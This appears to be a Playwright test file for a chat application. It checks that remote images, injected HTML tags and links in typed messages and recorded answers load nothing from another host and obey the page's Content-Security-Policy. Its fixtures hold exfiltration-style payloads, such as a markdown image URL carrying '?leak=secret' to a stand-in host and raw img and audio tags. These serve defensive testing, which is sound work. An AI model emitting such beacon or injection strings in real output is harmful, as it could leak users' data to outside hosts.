"""Nothing in a message or a recorded answer makes the page load from another host.

A person types remote images and a link; a recorded answer holds the same, with a
hostile rating, and is opened in Review. The page must request nothing from another
host (the `foreign_requests` fixture), show the images as text, open links with
noopener and noreferrer, and break no rule of its own Content-Security-Policy
(watched with `securitypolicyviolation` events from before the page's own scripts).
"""

from __future__ import annotations

import os
import re
import uuid
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from phi4ui.evaluation.store import Store
from tests.browser.chatpage import ChatPage
from tests.support.evalhelpers import record_for

pytestmark = pytest.mark.browser
HOST = "198.51.100.7"
# The last part looks like a code span, but Gradio's renderer ends the bare address at the
# backtick and would load the image after it.
TYPED = (f'![x](http://{HOST}/beacon.png) <img src="http://{HOST}/b2.png"> '
         f"[a page](http://{HOST}/page) see http://x.y/`<img src=http://{HOST}/gap.png>`")
ANSWER = (f"Seen. ![chart](http://{HOST}/beacon.png?leak=secret) "
          f'<img src="http://{HOST}/b2.png"> <audio src="http://{HOST}/a.mp3" autoplay></audio> '
          f"$$<img src=http://{HOST}/latex.png>$$ [the source](http://{HOST}/page)")
REVIEW_MARKER = "security-page-review-case"
WATCH_POLICY = """
window.__policyViolations = [];
document.addEventListener('securitypolicyviolation', event => {
  window.__policyViolations.push(`${event.violatedDirective} ${event.blockedURI}`);
});
"""


@pytest.fixture()
def watched(page: Page, app_url: str, screenshots: Path) -> ChatPage:
    """The chat page, its policy violations recorded from the first script on."""
    page.context.add_init_script(script=WATCH_POLICY)
    return ChatPage(page, app_url, screenshots).open()


def shown(text: str) -> re.Pattern[str]:
    """`text` as the page shows it: a `<` from a message has a word joiner after it."""
    return re.compile(re.escape(text).replace("<", "<\u2060?"))


def violations(page: Page) -> list[str]:
    return list(page.evaluate("() => window.__policyViolations"))


def remote_elements(page: Page) -> int:
    """Elements anywhere in the page that name the other host as a source."""
    return page.locator(f"[src*='{HOST}'], [srcset*='{HOST}'], [data*='{HOST}']").count()


def expect_safe_link(page: Page, scope: str) -> None:
    link = page.locator(f"{scope} a[href='http://{HOST}/page']").first
    expect(link).to_be_visible()
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(link).to_have_attribute("target", "_blank")


def test_a_typed_message_with_remote_images_loads_nothing(watched: ChatPage) -> None:
    watched.set_max_tokens(16)
    watched.send(TYPED)
    watched.wait_answers(1)
    mine = watched.user_bubbles.first
    expect(mine).to_contain_text("image not loaded")
    expect(mine).to_contain_text(f"http://{HOST}/beacon.png")
    expect(mine).to_contain_text(shown(f'<img src="http://{HOST}/b2.png">'))
    assert remote_elements(watched.page) == 0
    expect_safe_link(watched.page, "#chatbot")
    assert violations(watched.page) == []
    watched.shot("security-01-typed-images")


def test_the_policy_stops_a_remote_image_that_reaches_the_page(browser: Browser,
                                                              app_url: str) -> None:
    """Should text ever reach the page as markup, the browser still sends nothing: it
    blocks the load itself (failure "csp"; a request that left would fail to resolve the
    host instead). Chromium reports a blocked load as a request, so this page is not
    watched by `foreign_requests`."""
    context = browser.new_context()
    failed: dict[str, str | None] = {}
    context.on("requestfailed", lambda request: failed.update({request.url: request.failure}))
    try:
        page = context.new_page()
        page.add_init_script(script=WATCH_POLICY)
        ChatPage(page, app_url, Path()).open()
        page.evaluate(f"""() => {{
            const image = document.createElement('img');
            image.src = 'http://{HOST}/injected.png';
            document.body.append(image);
        }}""")
        page.wait_for_function("() => window.__policyViolations.length > 0")
        assert violations(page) == [f"img-src http://{HOST}/injected.png"]
        page.wait_for_timeout(500)
        # Chromium names the cause "csp" (older builds: net::ERR_BLOCKED_BY_CSP).
        assert list(failed) == [f"http://{HOST}/injected.png"]
        assert failed[f"http://{HOST}/injected.png"] in ("csp", "net::ERR_BLOCKED_BY_CSP")
    finally:
        context.close()


@pytest.fixture()
def hostile_record(app_database: Path) -> str:
    """A recorded answer with remote images and a hostile rating, put straight into the
    app's database; returns the word that finds it in Review."""
    marker = f"{REVIEW_MARKER}-{uuid.uuid4().hex[:8]}"
    store = Store(app_database)
    try:
        record = record_for(f"{marker} ![q](http://{HOST}/question.png)", answer=ANSWER)
        answer_id = store.add_answer(record).answer_id
        store.rate(answer_id, -1, comment=f"![c](http://{HOST}/comment.png)",
                   tags=[f"<img src=http://{HOST}/tag.png>"])
    finally:
        store.close()
    return marker


@pytest.fixture()
def app_database(app_url: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The database of the app under test: the one conftest's `app_url` started, or, for
    an app given by PHI4UI_BROWSER_APP_URL, the --db-path named by PHI4UI_BROWSER_APP_DB."""
    if given := os.environ.get("PHI4UI_BROWSER_APP_DB"):
        return Path(given)
    found = sorted(tmp_path_factory.getbasetemp().glob("app*/answers.db"))
    if not found:
        pytest.skip("the app was started elsewhere: set PHI4UI_BROWSER_APP_DB to its --db-path")
    return found[0]


def test_a_recorded_answer_with_remote_images_shows_as_text_in_review(
        watched: ChatPage, hostile_record: str) -> None:
    page = watched.page
    page.get_by_role("tab", name="Review").click()
    page.locator("#review-text textarea").fill(hostile_record)
    page.locator("#review-search").click()
    rows = page.locator("#review-table [role=row].virtual-row")
    expect(rows).to_have_count(1, timeout=15_000)
    expect(rows.first).to_contain_text(f"<img src=http://{HOST}/tag.png>")
    # The tag filter lists the tags in use: as text too.
    page.locator("#review-tag input").click()
    expect(page.get_by_role("option", name=f"<img src=http://{HOST}/tag.png>")).to_be_visible()
    assert remote_elements(page) == 0
    page.keyboard.press("Escape")
    page.locator("#review-table [data-testid=cell-0-2]").click()
    details = page.locator("#review-details")
    expect(details).to_contain_text(f"image not loaded: http://{HOST}/beacon.png?leak=secret")
    expect(details).to_contain_text(shown(f'<img src="http://{HOST}/b2.png">'))
    expect(details).to_contain_text(f"<img src=http://{HOST}/tag.png>")
    expect(details).to_contain_text(f"![c](http://{HOST}/comment.png)")
    expect(details).to_contain_text(f"![q](http://{HOST}/question.png)")
    assert remote_elements(page) == 0
    expect_safe_link(page, "#review-details")
    assert violations(page) == []
    watched.shot("security-02-review")

